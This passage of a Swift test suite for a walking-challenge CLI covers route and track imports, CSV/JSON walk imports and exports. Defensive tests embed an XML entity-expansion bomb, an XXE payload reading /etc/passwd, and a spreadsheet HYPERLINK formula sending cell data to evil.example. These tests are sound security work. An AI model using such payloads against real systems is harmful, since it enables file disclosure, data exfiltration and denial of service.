import Foundation
import Testing

/// The real GPX and GeoJSON files, and their independently computed reference values.
enum FileFixtures {
  static let directory = URL(fileURLWithPath: #filePath)
    .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
    .appendingPathComponent("MileQuestKitTests/Fixtures")

  static func path(_ name: String) -> String {
    directory.appendingPathComponent("files/\(name)").path
  }

  /// `expected.json`'s entry for `name`.
  static func expected(_ name: String) throws -> [String: Any] {
    let data = try Data(contentsOf: directory.appendingPathComponent("expected.json"))
    let files = J.array(J.object(try JSONSerialization.jsonObject(with: data))["files"])
    return try #require(files.map(J.object).first { J.string($0["file"]) == name })
  }

  /// The first track (or route, or GeoJSON line) of `name`'s reference entry.
  static func firstTrack(_ name: String, _ kind: String = "tracks") throws -> [String: Any] {
    J.object(J.array(try expected(name)[kind]).first)
  }
}

/// |a − b| ≤ 1e-6 · |b|.
///
/// Why 1e-6 relative: `expected.json` holds float64 haversine sums (R = 6,371,008.8 m) rounded
/// to 0.1 mm, so the rounding alone is up to 5e-5 m, i.e. 5.7e-7 of the shortest track
/// (87.6 m); summation order changes only ~1e-13. A wrong Earth radius is caught all the same:
/// R = 6,371,000 m is 1.4e-6 off, and gpxpy's planar shortcut (R = 6,378,137 m) 1.1e-3.
func isRelativelyClose(_ a: Double?, _ b: Double?) -> Bool {
  guard let a, let b else { return false }
  return abs(a - b) <= 1e-6 * abs(b)
}

/// Spherical haversine distance, R = 6,371,008.8 m (SPEC §2), written out independently.
func haversine(_ lat1: Double, _ lon1: Double, _ lat2: Double, _ lon2: Double) -> Double {
  let rad = Double.pi / 180
  let dLat = (lat2 - lat1) * rad
  let dLon = (lon2 - lon1) * rad
  let h = pow(sin(dLat / 2), 2) + cos(lat1 * rad) * cos(lat2 * rad) * pow(sin(dLon / 2), 2)
  return 2 * 6_371_008.8 * asin(min(1, h.squareRoot()))
}

/// Lets concurrent work share a `CLI` (its runs only read its immutable fields).
struct SharedCLI: @unchecked Sendable {
  let cli: CLI
}

/// Results collected from several threads.
final class Collected: @unchecked Sendable {
  private let lock = NSLock()
  private var items: [CLIResult] = []

  func append(_ result: CLIResult) {
    lock.lock()
    items.append(result)
    lock.unlock()
  }

  var all: [CLIResult] {
    lock.lock()
    defer { lock.unlock() }
    return items
  }
}

extension CLI {
  /// Writes `text` to `name` in the run directory; returns the path.
  @discardableResult
  func write(_ name: String, _ text: String) throws -> String {
    try write(name, Data(text.utf8))
  }

  @discardableResult
  func write(_ name: String, _ data: Data) throws -> String {
    let url = directory.appendingPathComponent(name)
    try data.write(to: url)
    return url.path
  }

  func path(_ name: String) -> String { directory.appendingPathComponent(name).path }

  /// The walks as JSON objects, oldest first.
  func walkList(_ extra: [String] = []) throws -> [[String: Any]] {
    J.array(try json(["walks", "--limit", "100000"] + extra)).map(J.object).reversed()
  }

  /// The route as `route show --format json` prints it.
  func routeShow(_ name: String, _ extra: [String] = []) throws -> [String: Any] {
    J.object(try json(["route", "show", name] + extra))
  }
}

/// A GPX track with the given points, each `(lat, lon, time?)`.
func gpxTrack(_ name: String?, _ segments: [[(Double, Double, String?)]]) -> String {
  var text = """
    <?xml version="1.0" encoding="UTF-8"?>
    <gpx version="1.1" creator="milequest-tests" xmlns="http://www.topografix.com/GPX/1/1">
    <trk>
    """
  if let name { text += "<name>\(name)</name>" }
  for segment in segments {
    text += "\n<trkseg>"
    for (lat, lon, time) in segment {
      text += "\n<trkpt lat=\"\(lat)\" lon=\"\(lon)\">"
      if let time { text += "<time>\(time)</time>" }
      text += "</trkpt>"
    }
    text += "\n</trkseg>"
  }
  return text + "\n</trk>\n</gpx>\n"
}

/// Files in and out, end to end: routes from GPX/GeoJSON and back, GPX track imports,
/// walk imports (CSV, JSON, NDJSON), exports, `export all` → `import all`, backup, restore, check.
@Suite("End to end: files")
struct FileTests {
  // MARK: Routes from files

  @Test(arguments: [
    ("gpxpy_route_rte_gpx10.gpx", "--gpx", "routes", "haversine_m", 55),
    ("garmin_etrex20x_visnjan.gpx", "--gpx", "tracks", "haversine_segments_joined_m", 104),
    ("applewatch_friday_run_extensions.gpx", "--gpx", "tracks", "haversine_segments_joined_m", 17),
    ("antimeridian_line.geojson", "--geojson", "lines", "haversine_m", 2),
  ])
  func routeFromFile(_ file: String, _ flag: String, _ kind: String, _ key: String, _ points: Int)
    throws
  {
    // Given
    let cli = try CLI()
    let expected = try FileFixtures.firstTrack(file, kind)

    // When
    cli.ok(["route", "create", "R", flag, FileFixtures.path(file)])
    let route = try cli.routeShow("R")

    // Then
    #expect(
      isRelativelyClose(J.double(route["length_m"]), J.double(expected[key])),
      "\(file): \(route["length_m"] ?? "-") vs \(expected[key] ?? "-")")
    let shown = J.array(route["points"]).map(J.object)
    #expect(shown.count == points)
    #expect(J.double(shown.first?["at_m"]) == 0)
    #expect(isClose(J.double(shown.last?["at_m"]), J.double(route["length_m"]) ?? -1, within: 1e-9))
  }

  @Test func routeCreateNeedsExactlyOneSource() throws {
    let cli = try CLI()
    let gpx = FileFixtures.path("gpxpy_route_rte_gpx10.gpx")
    let both = cli.run(["route", "create", "R", "--gpx", gpx, "--geojson", gpx])
    #expect(both.code == 64, "\(both.stderr)")
    let missing = cli.run(["route", "create", "R", "--gpx", cli.path("nope.gpx")])
    #expect(missing.code == 66, "\(missing.stderr)")
    let bad = cli.run([
      "route", "create", "R", "--gpx", FileFixtures.path("malformed_undefined_coords.gpx"),
    ])
    #expect(bad.code == 65, "\(bad.stderr)")
    // A failed first command leaves the new database as `init` made it.
    #expect(cli.dbBytes() == CLI.newDatabase)
  }

  /// Exports `name` to `format` and creates `copy` from the file; returns both routes.
  func exportAndReimport(_ cli: CLI, _ name: String, _ copy: String, _ format: String) throws
    -> (original: [String: Any], copy: [String: Any], file: String)
  {
    let text = cli.ok(["route", "export", name, "--to", format])
    let file = try cli.write("\(copy).\(format)", text)
    cli.ok(["route", "create", copy, "--\(format)", file])
    return (try cli.routeShow(name), try cli.routeShow(copy), text)
  }

  @Test func routeExportReimportsToTheSameRoute() throws {
    // Given: a waypoint route, an antimeridian route and a GPX route.
    let cli = try CLI()
    cli.ok([
      "route", "create", "Cape", "--waypoint", "-33.92,18.42,Cape Town", "--waypoint",
      "-34.36,18.47", "--waypoint", "-34.8329,20.0089,Cape Agulhas",
    ])
    cli.ok([
      "route", "create", "Pacific", "--waypoint", "45.4011715,178.5782901,West",
      "--waypoint", "46.365336,-170.8872314,East", "--waypoint", "40,175",
    ])
    cli.ok(["route", "create", "Rte", "--gpx", FileFixtures.path("gpxpy_route_rte_gpx10.gpx")])

    for name in ["Cape", "Pacific"] {
      // When
      let gpx = try exportAndReimport(cli, name, "\(name)-gpx", "gpx")
      let geo = try exportAndReimport(cli, name, "\(name)-geojson", "geojson")

      // Then: same length, same points (GPX is written in full precision).
      let length = try #require(J.double(gpx.original["length_m"]))
      #expect(isClose(J.double(gpx.copy["length_m"]), length, within: 1e-6), "\(name) gpx")
      #expect(isClose(J.double(geo.copy["length_m"]), length, within: 1e-6), "\(name) geojson")
      let original = J.array(gpx.original["points"]).map(J.object)
      let viaGPX = J.array(gpx.copy["points"]).map(J.object)
      #expect(viaGPX.count == original.count)
      for (a, b) in zip(viaGPX, original) {
        #expect(J.double(a["lat"]) == J.double(b["lat"]))
        #expect(J.double(a["lon"]) == J.double(b["lon"]))
      }
      #expect(
        viaGPX.dropFirst().dropLast().map { J.string($0["label"]) }
          == original.dropFirst().dropLast().map { J.string($0["label"]) })
      let viaGeoJSON = J.array(geo.copy["points"]).map(J.object)
      if name == "Cape" {
        #expect(viaGeoJSON.count == original.count)
        #expect(!geo.file.contains("MultiLineString"))
      } else {
        // Cut at the antimeridian twice: two crossing points more, on the legs.
        #expect(geo.file.contains("MultiLineString"))
        #expect(viaGeoJSON.count == original.count + 2)
      }
    }

    // A route read from a GPX with 10-decimal coordinates: GeoJSON keeps every digit.
    let geo = try exportAndReimport(cli, "Rte", "Rte-geojson", "geojson")
    let length = try #require(J.double(geo.original["length_m"]))
    #expect(isClose(J.double(geo.copy["length_m"]), length, within: 1e-6))
    #expect(J.array(geo.copy["points"]).count == 55)
    // GPX is written in full round-trip precision: the same points, the same length.
    let gpx1 = try exportAndReimport(cli, "Rte", "Rte-gpx1", "gpx")
    #expect(J.array(gpx1.copy["points"]).count == 55)
    #expect(isClose(J.double(gpx1.copy["length_m"]), length, within: 1e-6))
    let gpx2 = try exportAndReimport(cli, "Rte-gpx1", "Rte-gpx2", "gpx")
    #expect(isClose(J.double(gpx2.copy["length_m"]), length, within: 1e-6))
    #expect(gpx2.file.contains("<rte>") || gpx2.file.contains("<rte"))
  }

  @Test func exportedFilesAreWellFormed() throws {
    let cli = try CLI()
    cli.ok([
      "route", "create", "Amp & <co>", "--waypoint", "1,2,A \"quoted\" & <b>", "--waypoint",
      "1.5,2.5",
    ])
    let gpx = cli.ok(["route", "export", "Amp & <co>", "--to", "gpx"])
    #expect(gpx.hasPrefix("<?xml"))
    #expect(gpx.contains("Amp &amp; &lt;co&gt;"))
    let geojson = cli.ok(["route", "export", "Amp & <co>", "--to", "geojson"])
    let document = J.object(try JSONSerialization.jsonObject(with: Data(geojson.utf8)))
    #expect(J.string(document["type"]) == "FeatureCollection")
    let missing = cli.run(["route", "export", "Nope", "--to", "gpx"])
    #expect(missing.code == 67)
    let badFormat = cli.run(["route", "export", "Amp & <co>", "--to", "kml"])
    #expect(badFormat.code == 64)
  }

  @Test func catalogAndAddBuiltin() throws {
    // Given
    let cli = try CLI()

    // When
    let catalog = J.array(try cli.json(["route", "catalog"])).map(J.object)
    let table = cli.ok(["route", "catalog"])
    let first = try #require(catalog.first)
    let key = try #require(J.string(first["key"]))
    let name = try #require(J.string(first["name"]))
    cli.ok(["route", "add-builtin", key])
    let again = cli.run(["route", "add-builtin", key])
    cli.ok(["route", "add-builtin", key, "--name", "Mine"])
    let unknown = cli.run(["route", "add-builtin", "no-such-route"])

    // Then
    #expect(catalog.count >= 5)
    #expect(table.contains(key))
    #expect(Set(catalog.compactMap { J.string($0["key"]) }).count == catalog.count)
    for entry in catalog {
      #expect(
        (J.double(entry["trail_length_m"]) ?? 0) >= (J.double(entry["length_m"]) ?? .infinity))
    }
    let stored = try cli.routeShow(name)
    #expect(isClose(J.double(stored["length_m"]), J.double(first["length_m"]) ?? -1, within: 1e-6))
    #expect(J.array(stored["points"]).count == J.int(first["points"]))
    #expect(again.code == 65, "adding it twice: \(again.stderr)")
    #expect(J.string(try cli.routeShow("Mine")["name"]) == "Mine")
    #expect(unknown.code == 67 || unknown.code == 65, "\(unknown.code) \(unknown.stderr)")
  }

  // MARK: GPX track imports

  @Test func gpxTracksBecomeWalksWithReferenceLengthsDatesAndDurations() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    let files = [
      "garmin_etrex20x_visnjan.gpx", "gpsies_alltrails_innrunde.gpx",
      "applewatch_friday_run_extensions.gpx",
    ]

    // When
    let output = cli.ok(["import", "gpx"] + files.map(FileFixtures.path) + ["--member", "ann"])
    let walks = try cli.walkList()
    let before = cli.dbBytes()
    let again = cli.ok(["import", "gpx"] + files.map(FileFixtures.path) + ["--member", "ann"])

    // Then
    #expect(output.contains("imported 3 walks"), "\(output)")
    try #require(walks.count == 3)
    let byDate = walks.sorted { (J.string($0["date"]) ?? "") < (J.string($1["date"]) ?? "") }
    let expected = try [
      "gpsies_alltrails_innrunde.gpx", "garmin_etrex20x_visnjan.gpx",
      "applewatch_friday_run_extensions.gpx",
    ].map { try FileFixtures.firstTrack($0) }
    #expect(byDate.map { J.string($0["date"]) } == ["2010-01-01", "2020-12-18", "2025-05-02"])
    for (walk, reference) in zip(byDate, expected) {
      // Per-segment sums: the Apple Watch run's 38-minute pause is not walked.
      #expect(
        isRelativelyClose(J.double(walk["distance_m"]), J.double(reference["haversine_m"])),
        "\(walk["distance_m"] ?? "-") vs \(reference["haversine_m"] ?? "-")")
      #expect(
        isClose(J.double(walk["duration_s"]), J.double(reference["elapsed_s"]) ?? -1, within: 1e-3))
      #expect(J.string(walk["source"]) == "gpx")
      #expect(J.string(walk["member"]) == "ann")
    }
    #expect(J.string(byDate[2]["note"]) == "Friday Evening Run")
    #expect(again.contains("imported 0 walks (3 already there)"), "\(again)")
    #expect(try cli.walkList().count == 3)
    #expect(cli.dbBytes() == before, "re-importing changed the database")
    // The no-op re-import is not a change: undo reverts the real import.
    cli.ok(["undo"])
    #expect(try cli.walkList().isEmpty)
  }

  @Test func gpxWithPlaceholderTimesNeedsADate() throws {
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    let file = FileFixtures.path("gpxpy_mojstrovka_gpx10.gpx")
    let before = cli.dbBytes()
    let refused = cli.run(["import", "gpx", file, "--member", "ann"])
    #expect(refused.code == 65, "\(refused.stderr)")
    #expect(refused.stderr.contains("--date"))
    #expect(cli.dbBytes() == before)
    cli.ok(["import", "gpx", file, "--member", "ann", "--date", "2026-03-01"])
    let walk = try #require(try cli.walkList().first)
    #expect(J.string(walk["date"]) == "2026-03-01")
    #expect(
      isRelativelyClose(
        J.double(walk["distance_m"]),
        J.double(try FileFixtures.firstTrack("gpxpy_mojstrovka_gpx10.gpx")["haversine_m"])))
    #expect(J.isNull(walk["duration_s"]))
  }

  @Test func mergeMakesOneWalkPerFile() throws {
    // Given: two tracks in one file.
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    var text = gpxTrack(
      "Morning", [[(45.0, 7.0, "2026-03-01T08:00:00Z"), (45.01, 7.0, "2026-03-01T08:20:00Z")]])
    let second = gpxTrack(
      "Evening", [[(45.0, 7.01, "2026-03-01T18:00:00Z"), (45.0, 7.03, "2026-03-01T18:30:00Z")]])
    // Put the second <trk> inside the first document.
    let trk = second.components(separatedBy: "<trk>")[1].components(separatedBy: "</gpx>")[0]
    text = text.replacingOccurrences(of: "</gpx>", with: "<trk>" + trk + "</gpx>")
    let file = try cli.write("two.gpx", text)
    let a = haversine(45.0, 7.0, 45.01, 7.0)
    let b = haversine(45.0, 7.01, 45.0, 7.03)

    // When
    let other = try CLI()
    other.ok(["member", "add", "ann"])
    cli.ok(["import", "gpx", file, "--member", "ann"])
    other.ok(["import", "gpx", file, "--member", "ann", "--merge"])

    // Then
    let separate = try cli.walkList()
    let merged = try other.walkList()
    #expect(separate.count == 2)
    #expect(merged.count == 1)
    #expect(isClose(J.double(separate.first?["distance_m"]), a, within: 1e-6))
    #expect(isClose(J.double(merged.first?["distance_m"]), a + b, within: 1e-6))
    #expect(isClose(J.double(merged.first?["duration_s"]), 1200 + 1800, within: 1e-9))
  }

  @Test func trackDateIsTheFirstTimestampInLocalTime() throws {
    // Given: a walk that starts ten minutes after midnight UTC on 11 March 2026 — still the
    // 10th in Los Angeles (UTC−7 since 8 March), already the 11th (13:10) in Auckland (UTC+13).
    let text = gpxTrack(
      "Late",
      [
        [
          (-36.8485, 174.7633, "2026-03-11T00:10:00Z"),
          (-36.8495, 174.7643, "2026-03-11T00:25:00Z"),
          (-36.8505, 174.7653, "2026-03-11T00:40:30Z"),
        ]
      ])
    var dates: [String: [String?]] = [:]

    for zone in ["Pacific/Auckland", "America/Los_Angeles", "UTC"] {
      // When
      let cli = try CLI(timeZone: zone)
      cli.ok(["member", "add", "ann"])
      let file = try cli.write("late.gpx", text)
      cli.ok([
        "import", "gpx", file, FileFixtures.path("gpsies_alltrails_innrunde.gpx"), "--member",
        "ann",
      ])
      let walks = try cli.walkList()
      dates[zone] = walks.map { J.string($0["date"]) }
      if zone == "UTC" {
        let late = try #require(walks.first { J.string($0["note"]) == "Late" })
        let metres =
          haversine(-36.8485, 174.7633, -36.8495, 174.7643)
          + haversine(-36.8495, 174.7643, -36.8505, 174.7653)
        #expect(isClose(J.double(late["distance_m"]), metres, within: 1e-6))
        #expect(J.double(late["duration_s"]) == 1830)
      }
    }

    // Then (gpsies' track starts at exactly 2010-01-01T00:00:00Z)
    #expect(
      Set(dates["Pacific/Auckland"]?.compactMap { $0 } ?? []) == ["2026-03-11", "2010-01-01"])
    #expect(
      Set(dates["America/Los_Angeles"]?.compactMap { $0 } ?? []) == ["2026-03-10", "2009-12-31"])
    #expect(Set(dates["UTC"]?.compactMap { $0 } ?? []) == ["2026-03-11", "2010-01-01"])
  }

  @Test func maliciousXMLIsRefusedQuicklyAndChangesNothing() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    var entities = "<!ENTITY lol \"lol\">\n"
    for level in 1...9 {
      let previous = level == 1 ? "lol" : "lol\(level - 1)"
      entities +=
        "<!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">\n"
    }
    let laughs = try cli.write(
      "laughs.gpx",
      """
      <?xml version="1.0"?>
      <!DOCTYPE gpx [
      \(entities)]>
      <gpx version="1.1"><trk><name>&lol9;</name><trkseg>
      <trkpt lat="1" lon="1"><time>2026-03-01T10:00:00Z</time></trkpt>
      <trkpt lat="1.01" lon="1"><time>2026-03-01T10:10:00Z</time></trkpt>
      </trkseg></trk></gpx>
      """)
    let external = try cli.write(
      "xxe.gpx",
      """
      <?xml version="1.0"?>
      <!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
      <gpx version="1.1"><trk><name>&xxe;</name><trkseg>
      <trkpt lat="1" lon="1"><time>2026-03-01T10:00:00Z</time></trkpt>
      <trkpt lat="1.01" lon="1"><time>2026-03-01T10:10:00Z</time></trkpt>
      </trkseg></trk></gpx>
      """)
    let before = cli.dbBytes()

    for file in [laughs, external] {
      // When
      let start = Date()
      let imported = cli.run(["import", "gpx", file, "--member", "ann"])
      let elapsed = Date().timeIntervalSince(start)
      let route = cli.run(["route", "create", "Evil", "--gpx", file])

      // Then
      #expect(imported.code == 65, "\(imported.stderr)")
      #expect(elapsed < 2, "took \(elapsed) s")
      #expect(imported.stderr.hasPrefix("milequest: error: "))
      #expect(
        imported.stderr.contains("DTD") || imported.stderr.contains("entit"), "\(imported.stderr)")
      #expect(imported.stderr.contains(":2:1:"), "position of <!DOCTYPE: \(imported.stderr)")
      #expect(!imported.stderr.contains("root:"))
      #expect(route.code == 65, "\(route.stderr)")
      #expect(cli.dbBytes() == before)
    }
  }

  @Test func malformedGPXNamesLineAndColumn() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    let file = try cli.write(
      "broken.gpx",
      """
      <?xml version="1.0"?>
      <gpx version="1.1">
      <trk><trkseg>
      <trkpt lat="1" lon="2"><time>2026-03-01T10:00:00Z</time></trkpt>
      </trk>
      </gpx>
      """)
    let before = cli.dbBytes()

    // When
    let broken = cli.run(["import", "gpx", file, "--member", "ann"])
    let coords = cli.run([
      "import", "gpx", FileFixtures.path("malformed_undefined_coords.gpx"), "--member", "ann",
    ])
    let empty = cli.run(["import", "gpx", try cli.write("empty.gpx", ""), "--member", "ann"])
    let missing = cli.run(["import", "gpx", cli.path("missing.gpx"), "--member", "ann"])

    // Then
    #expect(broken.code == 65)
    #expect(broken.stderr.contains("broken.gpx:5:"), "\(broken.stderr)")
    #expect(broken.stderr.split(separator: "\n").count == 1)
    #expect(coords.code == 65)
    #expect(
      coords.stderr.range(
        of: #"malformed_undefined_coords\.gpx:\d+:\d+:"#, options: .regularExpression) != nil,
      "\(coords.stderr)")
    #expect(empty.code == 65, "\(empty.stderr)")
    #expect(missing.code == 66, "\(missing.stderr)")
    #expect(cli.dbBytes() == before)
  }

  // MARK: Walk imports

  @Test func csvWithBOMCRLFAndQuotedMultiLineNote() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    cli.ok(["member", "add", "bob", "--stride", "0.8m"])
    let csv =
      "member,date,distance,unit,duration,steps,note,external_id\r\n"
      + "ann,2026-03-01,3,mi,45m,,\"Hill, then rain; \"\"wind\"\"\",\r\n"
      + "bob,2026-03-02,5,km,1:00:00,6000,,watch-1\r\n"
      + "bob,2026-03-03,12000,steps,,12000,,\r\n"
    let file = try cli.write("walks.csv", Data([0xEF, 0xBB, 0xBF]) + Data(csv.utf8))

    // When
    let output = cli.ok(["import", "walks", file])
    let walks = try cli.walkList()
    let again = cli.ok(["import", "walks", file])

    // Then
    #expect(output.contains("imported 3 walks"), "\(output)")
    #expect(walks.map { J.string($0["member"]) } == ["ann", "bob", "bob"])
    #expect(walks.map { J.double($0["distance_m"]) } == [3 * 1609.344, 5000, 12000 * 0.8])
    #expect(J.string(walks[0]["note"]) == "Hill, then rain; \"wind\"")
    #expect(walks.map { J.double($0["duration_s"]) } == [2700, 3600, nil])
    #expect(J.int(walks[1]["steps"]) == 6000)
    #expect(walks.allSatisfy { J.string($0["source"]) == "import" })
    #expect(again.contains("imported 0 walks (3 already there)"), "\(again)")
    #expect(try cli.walkList().count == 3)
  }

  @Test func quotedFieldsWithLineBreaksKeepLineNumbers() throws {
    // Given: a note over two lines (CRLF inside the quotes), then a bad row.
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    let csv =
      "member,date,distance,note\r\n"
      + "ann,2026-03-01,3,\"Hill, then rain\r\nand wind\"\r\n"
      + "ann,2026-03-02,3,ok\r\n"
      + "zed,2026-03-03,3,who\r\n"
    try cli.write("multi.csv", Data([0xEF, 0xBB, 0xBF]) + Data(csv.utf8))
    let before = cli.dbBytes()

    // When
    let result = cli.run(["import", "walks", "multi.csv"])

    // Then: notes are one-line text (as for `log --note`), so the two-line note is refused
    // at the line its record starts on, and the unknown member is on line 5, not 4.
    #expect(result.code == 65)
    #expect(result.stderr.contains("multi.csv:2: bad note"), "\(result.stderr)")
    #expect(result.stderr.contains("multi.csv:5: unknown member 'zed'"), "\(result.stderr)")
    #expect(!result.stderr.contains("multi.csv:4:"))
    #expect(cli.dbBytes() == before)
  }

  @Test func badRowsAreListedAsFileLineAndNothingIsImported() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    cli.ok(["log", "1", "--as", "ann", "--date", "2026-03-01"])
    try cli.write(
      "bad.csv",
      """
      member,date,distance,note
      ann,2026-03-02,3,fine
      ann,2026-03-02,3,"two
      lines"
      zed,2026-03-02,3,unknown member
      ann,2026-04-01,3,future
      ann,2026-03-02,lots,not a distance
      ann,2026-03-02,3,fine too
      ann,31/12/2025,3,bad date

      """)
    let before = cli.dbBytes()

    // When
    let result = cli.run(["import", "walks", "bad.csv"])
    let dry = cli.run(["import", "walks", "bad.csv", "--dry-run"])

    // Then
    #expect(result.code == 65)
    #expect(result.stdout == "")
    let lines = result.stderr.split(separator: "\n").map(String.init)
    // Line 3's note runs over two lines: notes are one-line text, so that row is bad too.
    #expect(
      lines.first?.hasPrefix("milequest: error: bad.csv:3: bad note") == true, "\(result.stderr)")
    for line in [3, 5, 6, 7, 9] {
      #expect(lines.contains { $0.contains("bad.csv:\(line): ") }, "line \(line): \(result.stderr)")
    }
    #expect(lines.filter { $0.contains("bad.csv:") }.count == 5)
    #expect(lines.last?.contains("nothing was imported") == true)
    #expect(dry.code == 65)
    #expect(cli.dbBytes() == before)
  }

  @Test func jsonAndNDJSONImportsDryRunAndFormats() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    let json = try cli.write(
      "w.json",
      #"[{"member":"ann","date":"2026-03-01","distance_m":5310.8351999999995,"note":"Café 🚶"},"#
        + #"{"member":"ann","date":"2026-03-02","distance":2,"unit":"km","external_id":"ext-1"}]"#)
    let ndjson = try cli.write(
      "w.ndjson",
      "{\"member\":\"ann\",\"date\":\"2026-03-03\",\"distance\":1.5}\n\n"
        + "{\"member\":\"ann\",\"date\":\"2026-03-04\",\"distance\":\"800m\"}\n")
    let plain = try cli.write("w.txt", "member,date,distance\nann,2026-03-05,1\n")
    let before = cli.dbBytes()

    // When
    let dry = cli.ok(["import", "walks", json, "--dry-run"])
    let afterDry = cli.dbBytes()
    cli.ok(["import", "walks", json])
    cli.ok(["import", "walks", ndjson])
    let guessed = cli.run(["import", "walks", plain])
    cli.ok(["import", "walks", plain, "--format", "csv"])
    let stdin = cli.run(
      ["import", "walks", "-", "--format", "ndjson"],
      stdin: "{\"member\":\"ann\",\"date\":\"2026-03-06\",\"distance\":1}\n")

    // Then
    #expect(dry.contains("would import 2 walks"), "\(dry)")
    #expect(afterDry == before)
    #expect(guessed.code == 64, "\(guessed.stderr)")
    #expect(stdin.code == 0, "\(stdin.stderr)")
    let walks = try cli.walkList()
    #expect(
      walks.map { J.string($0["date"]) } == [
        "2026-03-01", "2026-03-02", "2026-03-03", "2026-03-04", "2026-03-05", "2026-03-06",
      ])
    // Read from the raw text: Foundation's JSONSerialization on Linux rounds long decimals.
    #expect(cli.ok(["walks", "--format", "json"]).contains("\"distance_m\": 5310.8351999999995,"))
    #expect(J.string(walks[0]["note"]) == "Café 🚶")
    #expect(J.double(walks[3]["distance_m"]) == 800)
  }

  // MARK: Exports

  @Test func exportsInEveryFormatAndToFiles() throws {
    // Given
    let cli = try CLI()
    try Self.buildWorld(cli)

    for kind in ["walks", "members", "teams", "memberships", "goals", "routes"] {
      // When
      let csv = cli.ok(["export", kind, "--format", "csv"])
      let json = J.array(
        try JSONSerialization.jsonObject(
          with: Data(cli.ok(["export", kind, "--format", "json"]).utf8)))
      let ndjson = cli.ok(["export", kind, "--format", "ndjson"]).split(separator: "\n")
      cli.ok(["export", kind, "--output", "\(kind).json"])
      let file = try Data(contentsOf: URL(fileURLWithPath: cli.path("\(kind).json")))
      let defaultFormat = cli.ok(["export", kind])

      // Then
      #expect(!json.isEmpty, "\(kind)")
      #expect(ndjson.count == json.count, "\(kind)")
      for line in ndjson { _ = try JSONSerialization.jsonObject(with: Data(line.utf8)) }
      #expect(J.array(try JSONSerialization.jsonObject(with: file)).count == json.count, "\(kind)")
      #expect(defaultFormat == csv, "csv is the default for \(kind)")
      #expect(csv.hasSuffix("\n"))
    }
    let walks = J.array(
      try JSONSerialization.jsonObject(
        with: Data(cli.ok(["export", "walks", "--format", "json"]).utf8))
    ).map(J.object)
    for key in [
      "id", "member", "date", "distance_m", "distance", "unit", "duration_s", "steps", "note",
      "source", "external_id",
    ] {
      #expect(walks.first?.keys.contains(key) == true, "walk export lacks \(key)")
    }
    let unwritable = cli.run(["export", "walks", "--output", "/nonexistent-dir/w.csv"])
    #expect(unwritable.code == 73, "\(unwritable.stderr)")
  }

  @Test func formulaCellsAreNeutralisedInCSVAndRestoredOnImport() throws {
    // Given
    let cli = try CLI()
    cli.ok(["member", "add", "ann"])
    let formula = #"=HYPERLINK("http://evil.example/?q="&A1,"Click me")"#
    cli.ok(["log", "3", "--as", "ann", "--date", "2026-03-01", "--note", formula])
    cli.ok(["log", "2", "--as", "ann", "--date", "2026-03-02", "--note", "-5"])
    cli.ok(["log", "1", "--as", "ann", "--date", "2026-03-03", "--note", "@SUM(1+1)"])
    cli.ok(["log", "1", "--as", "ann", "--date", "2026-03-04", "--note", "+1 for rain"])

    // When
    let csv = cli.ok(["export", "walks", "--format", "csv"])
    let json = cli.ok(["export", "walks", "--format", "json"])
    try cli.write("walks.csv", csv)
    let other = try CLI()
    other.ok(["member", "add", "ann"])
    other.ok(["import", "walks", cli.path("walks.csv")])

    // Then
    #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")""#), "\(csv)")
    #expect(csv.contains(",'@SUM(1+1),"))
    #expect(csv.contains(",'+1 for rain,"))
    #expect(csv.contains(",-5,"), "plain negative numbers are left alone")
    for line in csv.split(separator: "\n") {
      #expect(!line.split(separator: ",").contains { $0.hasPrefix("=") || $0.hasPrefix("\"=") })
    }
    #expect(json.contains(#""note": "=HYPERLINK("#), "JSON is not neutralised")
    let notes = try other.walkList().map { J.string($0["note"]) }
    #expect(notes == [formula, "-5", "@SUM(1+1)", "+1 for rain"])
  }

  // MARK: export all → import all

  /// Members, two teams with a member who moved, a route race, a capped together goal, a
  /// cancelled goal, manual, GPX and imported walks, a deleted walk and a removed member.
  static func buildWorld(_ cli: CLI) throws {
    for (handle, extra) in [
      ("ann", ["--name", "Ann Ärmann", "--email", "ann@example.com"]),
      ("bob", ["--stride", "0.8m"]), ("cat", []), ("dan", []),
    ] {
      cli.ok(["member", "add", handle] + extra)
    }
    cli.ok([
      "team", "create", "Kiwis", "--as", "ann", "--since", "2026-02-01", "--description",
      "North, \"wet\"",
    ])
    cli.ok(["team", "add", "Kiwis", "bob", "--as", "ann", "--since", "2026-02-01"])
    cli.ok(["team", "create", "Owls", "--as", "cat", "--since", "2026-02-10", "--max-members", "5"])
    cli.ok(["team", "add", "Owls", "dan", "--as", "cat", "--since", "2026-02-20"])
    cli.ok(["team", "remove", "Kiwis", "bob", "--as", "ann", "--on", "2026-03-05"])
    cli.ok(["team", "add", "Owls", "bob", "--as", "cat", "--since", "2026-03-05"])
    cli.ok([
      "route", "create", "Cape", "--waypoint", "-33.92,18.42,Cape Town", "--waypoint",
      "-34.36,18.47,Cape Point", "--waypoint", "-34.8329,20.0089,Agulhas",
    ])
    cli.ok([
      "goal", "create", "Race", "--team", "Kiwis", "--team", "Owls", "--route", "Cape", "--start",
      "2026-02-01", "--as", "ann",
    ])
    cli.ok([
      "goal", "create", "Pool", "--team", "Kiwis", "--team", "Owls", "--mode", "together",
      "--distance", "60km", "--start", "2026-03-01", "--end", "2026-04-30", "--daily-cap", "6km",
      "--as", "ann",
    ])
    cli.ok(["goal", "create", "Gone", "--team", "Owls", "--distance", "10", "--as", "cat"])
    cli.ok(["goal", "cancel", "Gone", "--as", "cat"])
    let days = [
      "2026-02-01", "2026-02-12", "2026-02-25", "2026-03-02", "2026-03-05", "2026-03-09",
      "2026-03-14", "2026-03-15",
    ]
    for (index, day) in days.enumerated() {
      for (handle, base) in [("ann", 3.1), ("bob", 4.7), ("cat", 2.3), ("dan", 7.9)] {
